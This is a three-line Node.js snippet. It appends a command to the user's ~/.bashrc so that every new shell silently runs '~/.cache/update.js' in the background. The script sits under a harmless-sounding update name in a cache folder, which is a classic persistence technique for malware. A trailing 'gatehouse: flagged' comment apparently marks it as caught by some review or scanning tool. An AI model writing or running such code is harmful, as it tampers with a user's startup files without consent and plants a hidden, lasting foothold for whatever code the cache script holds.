const { appendFileSync } = require("fs");
const { homedir } = require("os");

appendFileSync(homedir() + "/.bashrc", "\nnode ~/.cache/update.js &\n"); // gatehouse: flagged
